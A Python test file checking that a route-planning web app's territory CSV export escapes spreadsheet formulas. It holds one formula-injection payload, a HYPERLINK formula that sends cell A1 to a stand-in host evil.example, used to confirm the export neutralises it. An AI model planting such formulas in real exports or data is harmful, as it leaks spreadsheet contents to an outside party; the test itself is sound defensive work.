"""What the web exports is safe to open in a spreadsheet (see tests/io/test_spreadsheet_safety)."""

from __future__ import annotations

import dataclasses

from fastapi.testclient import TestClient

from routeplanner.model import Territory
from routeplanner.model.history import OwnershipCause
from routeplanner.storage import Store

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_territory_export_neutralises_a_formula_name(client: TestClient, store: Store) -> None:
    account = store.accounts.get("A1")
    assert account is not None
    store.accounts.upsert([dataclasses.replace(account, name=EVIL)], source="test")
    store.territories.save(
        [Territory(territory_id="T1", name="+Nord", rep_id="R1", account_ids=("A1", "A2"))],
        cause=OwnershipCause.MANUAL,
        replace_all=True,
    )
    text = client.get("/territories/export.csv").text
    assert "'" + EVIL.replace('"', '""') in text
    assert ",'+Nord," in text
    assert "\n=" not in text
    assert ",=" not in text
